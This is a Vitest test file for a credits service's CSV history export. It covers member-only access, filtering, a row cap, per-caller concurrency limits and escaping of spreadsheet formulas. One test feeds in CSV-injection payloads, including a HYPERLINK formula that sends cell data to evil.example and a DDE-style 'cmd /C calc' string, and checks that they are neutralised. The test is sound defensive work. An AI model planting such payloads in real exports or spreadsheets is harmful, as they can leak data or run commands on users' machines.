import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import { createCaller, workspaceServices, CSV_MAX_ROWS, type Caller } from '@credits/api';

const CAP = 400;
import { parseCsv } from '../../../packages/api/test/csv.js';
import { CostBudget } from '../src/cost-budget.js';
import { makeTestApp, type TestApp } from './test-app.js';

/**
 * Issue 12, findings 4 and 8: the history export built up to 10,000 rows in memory inside a
 * tRPC call that a batch could repeat 50 times (one request: 29.7 MB in 5.5 s; two at once
 * held /healthz for 7 s), and cells starting with `=` or `@` reached spreadsheets unescaped.
 */

const ADMIN: Caller = { kind: 'service', id: 'service:test', scopes: ['admin', 'usage:write'] };
const PASSWORD = 'correct horse battery staple';

describe('the history export (GET /export/history.csv)', () => {
  let t: TestApp;
  let api: ReturnType<typeof createCaller>;
  let workspaceId: string;
  let member: { cookie: string; userId: string };
  let stranger: { cookie: string };

  async function signUp(label: string) {
    const res = await t.app.request('/trpc/auth.signUp', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        email: `${label}-${randomUUID().slice(0, 8)}@example.com`,
        password: PASSWORD,
        name: label,
      }),
    });
    expect(res.status).toBe(200);
    const cookie = /^([^;]+)/.exec(res.headers.get('set-cookie') ?? '')?.[1] ?? '';
    const data = ((await res.json()) as { result: { data: { user: { id: string } } } }).result.data;
    return { cookie, userId: data.user.id };
  }

  /** The context the admin's caller (and the member's, in one test) is made with. */
  const apiCtx = () => ({
    store: t.store,
    rules: t.rules,
    ...workspaceServices({ store: t.store, clock: t.clock.now }),
    now: t.clock.now,
    config: { holdTtlMs: 3_600_000 },
  });

  const exportCsv = (query: string, headers: Record<string, string> = {}) =>
    t.app.request(`/export/history.csv?${query}`, { headers });

  beforeEach(async () => {
    t = await makeTestApp({ exportMaxRows: CAP });
    api = createCaller({ ...apiCtx(), caller: ADMIN });
    workspaceId = (
      await api.admin.workspaces.create({
        name: 'Export',
        plan: 'pro',
        idempotencyKey: randomUUID(),
      })
    ).workspace.id;
    const m = await signUp('member');
    await t.store.accounts.addMember({
      workspaceId,
      userId: m.userId,
      role: 'member',
      now: t.clock.now(),
      audit: { actor: 'test', action: 'member.add', target: m.userId },
    });
    member = m;
    stranger = await signUp('stranger');
  });
  afterEach(async () => {
    await t.cleanup();
  });

  const grant = (amount: number, reason: string) =>
    api.admin.ledger.grant({
      workspaceId,
      wallet: 'image_credits',
      amount,
      source: 'adjustment',
      reason,
      idempotencyKey: randomUUID(),
    });

  it('streams the same rows as usage.history, to members only, with cells escaped against formulas', async () => {
    await grant(10, '=HYPERLINK("https://evil.example/?"&A1,"Click")');
    await grant(10, '@SUM(1+1)*cmd|" /C calc"!A0');
    await grant(10, '+1+1');
    await grant(10, '-2+3');
    await grant(10, 'Spring top-up, "thanks"');
    const res = await exportCsv(`workspaceId=${workspaceId}`, { cookie: member.cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="credits-history-${workspaceId}.csv"`,
    );
    const [header, ...rows] = parseCsv(await res.text());
    expect(header?.[10]).toBe('description');
    const descriptions = rows.filter((r) => r[1] === 'image_credits').map((r) => r[10]);
    const history = await api.usage.history({ workspaceId, limit: 200 });
    expect(rows).toHaveLength(history.items.length);
    // A spreadsheet shows these as text: a leading ' stops them from running.
    expect(descriptions).toEqual([
      'Spring top-up, "thanks"',
      "'-2+3",
      "'+1+1",
      `'@SUM(1+1)*cmd|" /C calc"!A0`,
      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The same access as the table: no caller, another tenant, bad input.
    expect((await exportCsv(`workspaceId=${workspaceId}`)).status).toBe(401);
    expect(
      (await exportCsv(`workspaceId=${workspaceId}`, { cookie: stranger.cookie })).status,
    ).toBe(403);
    const bad = await exportCsv(`workspaceId=${workspaceId}&types=nonsense`, {
      cookie: member.cookie,
    });
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { data: { reason: 'VALIDATION' } } });
    // Filters as in usage.history.
    const filtered = await exportCsv(`workspaceId=${workspaceId}&types=spend`, {
      cookie: member.cookie,
    });
    expect(parseCsv(await filtered.text())).toHaveLength(1);
  });

  it('filters by member (members may) and by API key (owners only), like usage.history', async () => {
    const me = member;
    await api.admin.ledger.grant({
      workspaceId,
      wallet: 'video_credits',
      amount: 500,
      source: 'adjustment',
      reason: 'for jobs',
      idempotencyKey: randomUUID(),
    });
    const video = { kind: 'video', type: 'standard', durationSec: 5, resolution: '720p' } as const;
    // The member's job (reserved by them, captured by the admin) and the admin's own charge.
    const memberCaller = createCaller({
      ...apiCtx(),
      caller: {
        kind: 'user',
        id: `user:${me.userId}`,
        userId: me.userId,
        email: 'm@example.com',
        isAdmin: false,
        sessionTokenHash: null,
      },
    });
    const hold = await memberCaller.usage.reserve({
      workspaceId,
      job: video,
      idempotencyKey: randomUUID(),
    });
    await api.usage.capture({ workspaceId, holdId: hold.holdId, idempotencyKey: randomUUID() });
    await api.usage.charge({ workspaceId, job: video, idempotencyKey: randomUUID() });
    const mine = await exportCsv(`workspaceId=${workspaceId}&member=${me.userId}`, {
      cookie: me.cookie,
    });
    expect(mine.status).toBe(200);
    const [, ...rows] = parseCsv(await mine.text());
    expect(rows.map((r) => [r[2], r[6]])).toEqual([
      ['spend', hold.holdId],
      ['hold', hold.holdId],
    ]);
    // By key: not for members (403); member and key together: 400.
    const byKey = await exportCsv(`workspaceId=${workspaceId}&apiKey=key_x`, { cookie: me.cookie });
    expect(byKey.status).toBe(403);
    expect(await byKey.json()).toMatchObject({ error: { data: { reason: 'FORBIDDEN' } } });
    const both = await exportCsv(`workspaceId=${workspaceId}&member=${me.userId}&apiKey=key_x`, {
      cookie: me.cookie,
    });
    expect(both.status).toBe(400);
    expect(await both.json()).toMatchObject({ error: { data: { reason: 'VALIDATION' } } });
  });

  it('stops at the row cap (10,000 served; 400 here); one export per caller at a time; /healthz answers while exports run', async () => {
    expect(CSV_MAX_ROWS).toBe(10_000);
    // More entries than one file holds, over several pages of 200.
    await Promise.all(
      Array.from({ length: 10 }, async (_, w) => {
        for (let i = 0; i < 45; i++) await grant(1, `bulk ${w}-${i}`);
      }),
    );
    const first = await exportCsv(`workspaceId=${workspaceId}`, { cookie: member.cookie });
    expect(first.status).toBe(200);
    expect(first.headers.get('x-credits-row-cap')).toBe(String(CAP));
    const reader = first.body!.getReader();
    const firstChunk = await reader.read();
    expect(firstChunk.done).toBe(false);
    // While the first export is mid-stream: the same caller cannot start another…
    const second = await exportCsv(`workspaceId=${workspaceId}`, { cookie: member.cookie });
    expect(second.status).toBe(429);
    expect(await second.json()).toMatchObject({ error: { data: { reason: 'RATE_LIMITED' } } });
    // …and /healthz does not wait for it.
    const health = await t.app.request('/healthz');
    expect(health.status).toBe(200);
    let text = new TextDecoder().decode(firstChunk.value);
    for (let r = await reader.read(); !r.done; r = await reader.read())
      text += new TextDecoder().decode(r.value);
    expect(parseCsv(text).length - 1).toBe(CAP);
    // Finished: the budget is free again.
    const third = await exportCsv(`workspaceId=${workspaceId}&types=spend`, {
      cookie: member.cookie,
    });
    expect(third.status).toBe(200);
    expect(parseCsv(await third.text())).toHaveLength(1);
  }, 120_000);

  it('a cancelled download frees the caller’s budget', async () => {
    for (let i = 0; i < 450; i++) await grant(1, `row ${i}`);
    const res = await exportCsv(`workspaceId=${workspaceId}`, { cookie: member.cookie });
    const reader = res.body!.getReader();
    await reader.read();
    await reader.cancel();
    await new Promise((r) => setTimeout(r, 50));
    const again = await exportCsv(`workspaceId=${workspaceId}`, { cookie: member.cookie });
    expect(again.status).toBe(200);
    expect(parseCsv(await again.text()).length - 1).toBe(CAP);
  });
});

describe('usage.summary and admin.rules.simulate are budgeted the same way', () => {
  it('at most one expensive call per request, and a per-caller limit on concurrent ones', async () => {
    const t = await makeTestApp();
    try {
      const auth = { authorization: `Bearer ${t.serviceKey}` };
      const input = encodeURIComponent(
        JSON.stringify({ 0: { workspaceId: 'w' }, 1: { workspaceId: 'w' } }),
      );
      const batch = await t.app.request(
        `/trpc/usage.summary,usage.summary?batch=1&input=${input}`,
        {
          headers: auth,
        },
      );
      expect(batch.status).toBe(400);
      const budget = new CostBudget({ perCaller: 2, total: 3 });
      const a = budget.tryAcquire('x');
      const b = budget.tryAcquire('x');
      expect(a && b).toBeTruthy();
      expect(budget.tryAcquire('x')).toBeNull();
      const c = budget.tryAcquire('y');
      expect(c).toBeTruthy();
      expect(budget.tryAcquire('z')).toBeNull(); // all full
      a!();
      a!(); // releasing twice frees once
      expect(budget.inFlight).toBe(2);
      expect(budget.tryAcquire('z')).toBeTruthy();
    } finally {
      await t.cleanup();
    }
  });
});
